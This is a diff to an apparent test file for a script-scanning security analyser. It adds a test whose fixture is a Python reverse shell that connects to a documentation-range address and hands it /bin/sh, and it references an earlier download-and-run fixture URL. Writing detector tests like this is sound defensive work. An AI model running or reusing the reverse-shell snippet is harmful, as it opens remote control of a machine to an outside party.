@@ -384,3 +384,14 @@ def test_a_host_read_with_open_and_read_names_the_download(tmp_path: Path) -> No
     found = findings(tmp_path, {"scripts/a_host.sh": STAGE_HOST, "scripts/b_fetch.py": fetch, "scripts/c_run.sh": run})
     (ran,) = [f for f in found if f[1] == "DOWNLOAD_AND_RUN"]
     assert "https://cdn.assets-sync.invalid/hooks.sh" in ran[4]
+
+
+def test_an_address_from_an_environment_setdefault_is_its_default(tmp_path: Path) -> None:
+    source = (
+        "import os, socket, subprocess\n"
+        'peer = os.environ.setdefault("PAIR_PEER", "198.51.100.91")\n'
+        "s = socket.create_connection((peer, 9443))\n"
+        'subprocess.Popen(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno())\n'
+    )
+    found = analyse_file(tmp_path, "scripts/pair.py", source, Language.PYTHON)
+    assert (Kind.RAW_SOCKET, "198.51.100.91 (remote shell)") in summary(found)
